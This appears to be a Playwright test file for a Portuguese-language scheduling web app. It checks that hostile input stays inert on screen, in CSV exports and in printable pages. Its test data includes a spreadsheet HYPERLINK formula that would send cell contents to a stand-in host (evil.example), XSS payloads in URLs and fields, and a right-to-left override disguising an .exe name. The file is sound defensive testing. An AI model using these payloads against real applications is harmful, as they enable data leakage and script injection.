import { demoLinks } from '@mocks/seed/accounts';
import papaparse from 'papaparse';
import { formatDate, today } from '@/formats/dates';
import { addAppointment } from './support/api';
import { download, downloadText, expect, openSheet, test } from './support/fixtures';
import {
  digits,
  endless,
  expectNoOverflow,
  expectOnlyText,
  forbidScripts,
  lengthen,
  markup,
} from './support/hostile';
import { wholeModule } from './support/modules';
import { filterBy, openAppointments, panel } from './support/steps';

/*
 * Typed text and old records are plain text everywhere: on screen, on paper and in spreadsheets. The lists and details
 * of every module with such records are in other-origin.spec.ts.
 */

const formula = '=HYPERLINK("http://evil.example?"&A1;"clique")';
/** Displayed as written, the end would read backwards: "exe.gpj". */
const override = 'nota\u202Egpj.exe';
const emoji = '👩🏽‍⚖️🏳️‍🌈 Ñandú é ﷽';

test.beforeEach(({ page }) => forbidScripts(page));

test('an appointment with hostile content in every field', async ({ page, signIn }, testInfo) => {
  await signIn(page);
  const subject = '=1+1<b onclick=alert(1)>"\'; --';
  const description = `${formula}\n${markup}\n${override}\n${emoji}`.padEnd(800, 'ç');
  const fields = { subject, location: markup, requesterName: '@SUM(A1:A9)', description };
  const reference = await addAppointment(page, { date: today(), ...fields });
  const table = await openAppointments(page);
  await filterBy(page, 'Filtrar compromissos', { Assunto: subject, Referência: reference });
  await expect(table.getByRole('cell', { name: subject, exact: true })).toBeVisible();
  await expect(page.getByRole('button', { name: `Remover filtro Assunto: ${subject}` })).toBeVisible();
  await expectOnlyText(page);

  const csv = await download(page, page.getByRole('button', { name: 'Download Excel (.csv)' }));
  const { data } = papaparse.parse((await downloadText(csv)).slice(1), { delimiter: ';', newline: '\r\n' });
  const day = formatDate(today());
  expect(data.slice(1)).toEqual([
    // The start of the cell, and what would start one where ';' separates cells.
    [
      reference,
      `'${subject.replace('; --', "; '--")}`,
      `${day} 09:00`,
      `${day} 10:30`,
      `'${description}`,
      markup,
    ],
  ]);
  const print = await download(page, page.getByRole('button', { name: 'Baixar para imprimir (.html)' }));
  const sheet = await openSheet(page, print, testInfo);
  await expect(sheet.getByRole('cell').last()).toHaveText(subject);
  await expectOnlyText(sheet);
  await sheet.close();

  await table.getByRole('link', { name: reference, exact: true }).click();
  const details = panel(page, `Compromisso ${reference}`);
  for (const text of [markup, '@SUM(A1:A9)', description]) {
    await expect(details.getByText(text, { exact: true })).toBeVisible();
  }
  await expectOnlyText(page);
  const link = await details.getByRole('link', { name: /\/appointment\// }).getAttribute('href');
  await page.goto(link ?? '');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(subject);
  await expect(page).toHaveTitle(new RegExp('^=1\\+1<b onclick'));
  await expect(page.getByText(description)).toBeVisible();
  await expectOnlyText(page);
  const map = new URL((await page.getByRole('link', { name: /^Ver no mapa/ }).getAttribute('href')) ?? '');
  expect(map.origin).toBe('https://www.google.com');
  expect(map.searchParams.get('query')).toBe(markup);
});

test('an address with hostile content leads to what says that it is not there', async ({
  page,
  problems,
}) => {
  problems.expect(/status of 404/);
  for (const [path, told] of [
    ['/appointment/%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'Compromisso não encontrado'],
    [`/appointment/${'a'.repeat(2000)}`, 'Compromisso não encontrado'],
    ['/invoice/open/%3Cimg%20src=x%20onerror=alert(1)%3E', 'Fatura não encontrada'],
    ['/auth/reset-password/%3Cscript%3E', 'Ops! Token expirou ou não existe'],
  ] as const) {
    await page.goto(path);
    await expect(page.getByRole('alert')).toContainText(told);
    await expectOnlyText(page);
  }
});

test('an invitation longer than any form lets through breaks no screen', async ({ page }) => {
  await lengthen(
    page,
    { script: 'compromisso.public.php', action: 'getDetails' },
    wholeModule.overlong(endless, digits),
  );
  await page.goto(`/appointment/${demoLinks.activeAppointment}`);
  await expect(page.getByRole('heading', { level: 1 })).toContainText(markup);
  await expectNoOverflow(page, page.getByRole('main'));
});
